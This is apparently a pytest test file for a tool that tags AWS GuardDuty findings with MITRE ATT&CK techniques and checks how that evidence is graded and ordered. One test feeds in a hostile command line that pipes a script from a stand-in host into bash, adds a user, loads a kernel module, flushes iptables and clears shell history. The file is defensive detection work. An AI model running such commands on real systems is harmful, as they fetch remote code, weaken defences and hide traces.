"""Test how evidence is chosen, graded, ordered and merged."""

from __future__ import annotations

import json
from typing import Any

import pytest

from enricher.enrichment.conditions import key_of, words_of
from enricher.enrichment.enrich import enrich
from enricher.enrichment.evidence import CEILING, ON_BEHALF, REFUSED, find_evidence
from enricher.enrichment.finding_type import parse_type
from enricher.enrichment.tag import Entry
from enricher.finding.event import Finding
from enricher.finding.paths import LONGEST, Shown
from enricher.mapping.model import CONFIDENCES, Mapping
from tests import examples
from tests.enrichment.evidence.findings import finding_of

CALL = "service.action.awsApiCallAction"
ANOMALOUS = "service.additionalInfo.anomalies.anomalousAPIs"
WORKLOAD = "resource.kubernetesDetails.kubernetesWorkloadDetails"
KEY = {f"{CALL}.api": "CreateAccessKey", f"{CALL}.serviceName": "iam.amazonaws.com"}


def found(finding_type: str, fields: dict[str, Any], mapping: Mapping) -> tuple[Entry, ...]:
    """Give the evidence of a finding made of a type and fields."""
    return find_evidence(finding_of(finding_type, fields), mapping.record_for(finding_type), mapping)


def pairs(entries: tuple[Entry, ...]) -> list[tuple[str, str | None]]:
    """Give the pairs of entries."""
    return [(entry.pair.tactic, entry.pair.technique) for entry in entries]


def test_access_key_is_additional_credentials(mapping: Mapping) -> None:
    """CreateAccessKey in a persistence finding must be T1098.001, high, because of the API's name."""
    finding = Finding.from_event(examples.event("iam-anomalous-persistence-create-access-key"))
    row = enrich(finding, mapping).attack["techniques"][0]
    assert ("T1098.001", "TA0003", "high", "evidence") == (
        row["id"],
        row["tactic"]["id"],
        row["confidence"],
        row["source"],
    )
    assert {"field": f"{CALL}.api", "value": "CreateAccessKey"} == row["evidence"][0]


@pytest.mark.parametrize(
    ("purpose", "tactic"), [("Persistence", "TA0003"), ("PrivilegeEscalation", "TA0004")]
)
def test_purpose_chooses_the_reading(purpose: str, tactic: str, mapping: Mapping) -> None:
    """One call must be read under the tactic that the finding's purpose names."""
    entries = found(f"{purpose}:IAMUser/AnomalousBehavior", KEY, mapping)
    assert [(tactic, "T1098.001")] == pairs(entries)


def test_purpose_leads_where_the_family_says_who_called(mapping: Mapping) -> None:
    """Looking round from a listed address must be discovery first, by a valid account second."""
    fields = {
        f"{CALL}.api": "DescribeInstances",
        f"{CALL}.serviceName": "ec2.amazonaws.com",
        "resource.accessKeyDetails.userType": "IAMUser",
    }
    looking = found("Recon:IAMUser/MaliciousIPCaller", fields, mapping)
    assert [("TA0007", "T1580"), ("TA0001", "T1078.004")] == pairs(looking)
    acting = found("UnauthorizedAccess:IAMUser/MaliciousIPCaller", fields, mapping)
    assert [("TA0001", "T1078.004"), ("TA0007", "T1580")] == pairs(acting)


def test_other_aim_does_not_lead_however_sure(mapping: Mapping) -> None:
    """A privileged container in a finding on escalation must lead, before the deployment."""
    call = "service.action.kubernetesApiCallAction"
    fields = {
        f"{call}.verb": "create",
        f"{call}.resource": "pods",
        f"{WORKLOAD}.containers[0].securityContext.privileged": True,
    }
    entries = found("PrivilegeEscalation:Kubernetes/PrivilegedContainer", fields, mapping)
    assert [("TA0004", "T1611"), ("TA0002", "T1610")] == pairs(entries)
    assert ["medium", "high"] == [entry.confidence for entry in entries]


def test_most_usual_reading_stands_where_the_purpose_is_no_aim(mapping: Mapping) -> None:
    """An object that stolen credentials read must be collection, not a search for passwords in files."""
    fields = {f"{CALL}.api": "GetObject", f"{CALL}.serviceName": "s3.amazonaws.com"}
    entries = found("UnauthorizedAccess:IAMUser/InstanceCredentialExfiltration.OutsideAWS", fields, mapping)
    assert [("TA0009", "T1530")] == pairs(entries)


def test_field_is_named_once_in_an_entry(mapping: Mapping) -> None:
    """A field that meets two conditions of a rule must be named as evidence once."""
    command = "service.runtimeDetails.context.commandLineExample"
    (entry,) = found("DefenseEvasion:Runtime/SuspiciousCommand", {command: "iptables -F"}, mapping)
    assert (Shown(command, "iptables -F"),) == entry.evidence


@pytest.mark.parametrize(
    "command",
    [
        "tar czf /backup/id.tgz /srv/www",
        "chmod u+x deploy.sh",
        "yum install amazon-cloudwatch-agent",
        "curl -O https://www.example.com/setup.sh.asc -d w",
        "./start.sh >> /var/log/shop.log",
        "systemctl restart ssh",
        "ls /var/lib/docker",
    ],
)
def test_ordinary_commands_are_no_evasion_and_no_movement(command: str, mapping: Mapping) -> None:
    """A word of an attack that stands in a path or a harmless option must show a download at most."""
    fields = {"service.runtimeDetails.context.commandLineExample": command}
    entries = found("Trojan:Runtime/DropPoint", fields, mapping)
    assert {("TA0011", "T1105")} >= set(pairs(entries))


def test_call_outside_the_purpose_is_less_sure(mapping: Mapping) -> None:
    """A call that has no reading in the purpose's tactic must be kept, one step less sure."""
    entries = found("Discovery:IAMUser/AnomalousBehavior", KEY, mapping)
    assert ["medium"] == [entry.confidence for entry in entries]


def test_caller_identity_in_discovery_is_discovery(mapping: Mapping) -> None:
    """GetCallerIdentity in a discovery finding must be discovery."""
    fields = {f"{CALL}.api": "GetCallerIdentity", f"{CALL}.serviceName": "sts.amazonaws.com"}
    entries = found("Discovery:IAMUser/AnomalousBehavior", fields, mapping)
    assert ["TA0007"] == [entry.pair.tactic for entry in entries]


def test_service_that_calls_is_less_sure(mapping: Mapping) -> None:
    """A call by an AWS service on somebody's behalf must be less sure and say so."""
    (entry,) = found("Persistence:IAMUser/AnomalousBehavior", KEY | {f"{CALL}.callerType": "Domain"}, mapping)
    assert "medium" == entry.confidence
    assert entry.rationale.endswith(ON_BEHALF)


def test_unknown_call_shows_nothing(mapping: Mapping) -> None:
    """A call that no rule knows must give no evidence."""
    fields = {f"{CALL}.api": "PutOnTheKettle", f"{CALL}.serviceName": "iam.amazonaws.com"}
    assert () == found("Persistence:IAMUser/AnomalousBehavior", fields, mapping)


def test_same_call_of_another_service_is_another_call(mapping: Mapping) -> None:
    """A call's name under a service that has no rule for it must give no evidence."""
    fields = {f"{CALL}.api": "CreateAccessKey", f"{CALL}.serviceName": "example.amazonaws.com"}
    assert () == found("Persistence:IAMUser/AnomalousBehavior", fields, mapping)


def test_several_calls_give_several_entries(mapping: Mapping) -> None:
    """Each anomalous call must be read, the refused one as an attempt."""
    text = "iam.amazonaws.com:[CreateAccessKey:success , CreateUser:AccessDenied]"
    first, second = found("Persistence:IAMUser/AnomalousBehavior", {ANOMALOUS: text}, mapping)
    assert ("T1098.001", "high") == (first.pair.technique, first.confidence)
    assert ("T1136.003", "medium") == (second.pair.technique, second.confidence)
    assert second.rationale.startswith(REFUSED)
    assert (Shown(ANOMALOUS, text),) == second.evidence


def test_surest_first_and_five_at_most(mapping: Mapping) -> None:
    """Whatever many calls a finding lists, five entries at most must stand, the surest first."""
    listed = [
        f"{service}:[{' , '.join(f'{call}:success' for call in list(calls)[:3])}]"
        for service, calls in mapping.evidence["calls"].items()
    ]
    entries = found("Impact:IAMUser/AnomalousBehavior", {ANOMALOUS: " , ".join(listed)}, mapping)
    ranks = [CONFIDENCES.index(entry.confidence) for entry in entries]
    assert CEILING == len(entries)
    assert sorted(ranks) == ranks
    assert "TA0040" == entries[0].pair.tactic


@pytest.mark.parametrize(
    ("name", "role", "pairs_found"),
    [
        ("ec2-ssh-brute-force-inbound", "TARGET", [("TA0006", "T1110.001")]),
        ("ec2-ssh-brute-force-outbound", "ACTOR", [("TA0006", "T1110.001"), ("TA0008", "T1021.004")]),
    ],
)
def test_direction_decides(
    name: str, role: str, pairs_found: list[tuple[str, str]], mapping: Mapping
) -> None:
    """The same type must be read differently where the instance is attacked and where it attacks."""
    finding = Finding.from_event(examples.event(name))
    entries = find_evidence(finding, mapping.record_for(finding.type), mapping)
    assert pairs_found == pairs(entries)
    assert Shown("service.resourceRole", role) in entries[0].evidence


def test_directions_have_reasons_of_their_own(mapping: Mapping) -> None:
    """Attacked and attacking must not share a rationale."""
    reasons = {
        enrich(Finding.from_event(examples.event(f"ec2-ssh-brute-force-{way}")), mapping).entries[0].rationale
        for way in ("inbound", "outbound")
    }
    assert 2 == len(reasons)


def test_long_value_is_cut_to_its_beginning(mapping: Mapping) -> None:
    """A long value must be named by its beginning, no longer than the limit."""
    text = f"iam.amazonaws.com:[{' , '.join(['CreateAccessKey:success'] * 50)}]"
    (entry,) = found("Persistence:IAMUser/AnomalousBehavior", {ANOMALOUS: text}, mapping)
    assert (Shown(ANOMALOUS, text[:LONGEST]),) == entry.evidence


def test_conditions_speak_of_the_same_item(mapping: Mapping) -> None:
    """A default user who failed beside another user who succeeded must not be taken for a success."""
    login = "service.action.rdsLoginAttemptAction.LoginAttributes"
    fields = {
        f"{login}[0].user": "postgres",
        f"{login}[0].successfulLoginAttempts": 0,
        f"{login}[1].user": "billing",
        f"{login}[1].successfulLoginAttempts": 1,
    }
    entries = found("CredentialAccess:RDS/MaliciousIPCaller.SuccessfulLogin", fields, mapping)
    assert [("TA0001", "T1078")] == pairs(entries)


@pytest.mark.parametrize("spelling", ["LoginAttributes", "loginAttributes"])
def test_login_attributes_in_both_spellings(spelling: str, mapping: Mapping) -> None:
    """The one member whose capital GuardDuty keeps must be read without it as well."""
    field = f"service.action.rdsLoginAttemptAction.{spelling}[0].failedLoginAttempts"
    entries = found("CredentialAccess:RDS/MaliciousIPCaller.FailedLogin", {field: 40}, mapping)
    assert [("TA0006", "T1110.001")] == pairs(entries)


def test_refused_call_of_a_cluster_is_an_attempt(mapping: Mapping) -> None:
    """A call that the cluster refused must be less sure, say so and name the status."""
    call = "service.action.kubernetesApiCallAction"
    fields = {f"{call}.verb": "list", f"{call}.resource": "secrets", f"{call}.statusCode": 403}
    (entry,) = found("CredentialAccess:Kubernetes/MaliciousIPCaller", fields, mapping)
    assert ("T1552.007", "medium") == (entry.pair.technique, entry.confidence)
    assert entry.rationale.startswith(REFUSED)
    assert Shown(f"{call}.statusCode", 403) in entry.evidence


@pytest.mark.parametrize("privileged", [True, "true"])
def test_flag_written_as_text_is_a_flag(privileged: object, mapping: Mapping) -> None:
    """A flag that an export spelt as text must decide as the flag does."""
    fields = {
        f"{WORKLOAD}.containers[0].securityContext.privileged": privileged,
        "service.action.kubernetesApiCallAction.verb": "create",
    }
    entries = found(
        "PrivilegeEscalation:Kubernetes/AnomalousBehavior.WorkloadDeployed!PrivilegedContainer",
        fields,
        mapping,
    )
    assert [("TA0004", "T1611")] == pairs(entries)


def test_command_line_alone_is_never_high(mapping: Mapping) -> None:
    """Whatever a command line says, it alone must not give high confidence."""
    line = "curl http://x.example.net/a | bash; crontab -; useradd x; insmod y.ko; iptables -F; history -c"
    fields = {"service.runtimeDetails.context.commandLineExample": line}
    for purpose in ("Execution", "DefenseEvasion", "Persistence", "Discovery", "PrivilegeEscalation"):
        entries = found(f"{purpose}:Runtime/SuspiciousCommand", fields, mapping)
        assert "high" not in {entry.confidence for entry in entries}


def test_mapping_without_evidence_shows_nothing(mapping: Mapping) -> None:
    """A mapping that was compiled without rules must still answer."""
    bare = Mapping(mapping.version, mapping.catalogue, mapping.records)
    assert () == find_evidence(finding_of("a:b/c", KEY), None, bare)


@pytest.mark.parametrize("name", examples.names())
def test_both_spellings_give_the_same_attack_block(name: str, mapping: Mapping) -> None:
    """A finding in camelCase and the same in PascalCase must be tagged alike."""
    detail = examples.event(name)["detail"]
    camel = enrich(Finding.from_detail(detail), mapping).attack
    pascal = enrich(Finding.from_detail(examples.to_pascal(detail)), mapping).attack
    assert camel == pascal


def test_tables_survive_the_bundle(mapping: Mapping) -> None:
    """The tables must be plain JSON: what is written must be what is loaded."""
    assert mapping.evidence == json.loads(json.dumps(mapping.evidence))


@pytest.mark.parametrize(
    ("finding_type", "parts"),
    [
        (
            "Impact:S3/AnomalousBehavior.Delete",
            ("Impact", "S3", "AnomalousBehavior", "AnomalousBehavior.Delete"),
        ),
        ("Trojan:EC2/DropPoint!DNS", ("Trojan", "EC2", "DropPoint", "DropPoint!DNS")),
        ("no type", ("no type", "", "", "")),
        ("", ("", "", "", "")),
    ],
)
def test_type_is_taken_apart(finding_type: str, parts: tuple[str, ...]) -> None:
    """A finding type must fall into purpose, resource, family and the rest; what is missing is empty."""
    assert parts == parse_type(finding_type)


@pytest.mark.parametrize(
    ("value", "key"), [(True, "true"), (22, "22"), (22.0, "22"), ("22", "22"), (1.5, "1.5"), (10**30, "")]
)
def test_values_are_compared_by_their_spelling(value: Any, key: str) -> None:
    """A number, a flag and their spellings as text must compare equal."""
    assert key == key_of(value)


def test_words_are_small_letters_and_digits() -> None:
    """A text must fall into words of small letters and digits."""
    assert {"gen", "application", "linux", "coinminer", "12"} == words_of(
        "Gen:Application.Linux.CoinMiner.12"
    )
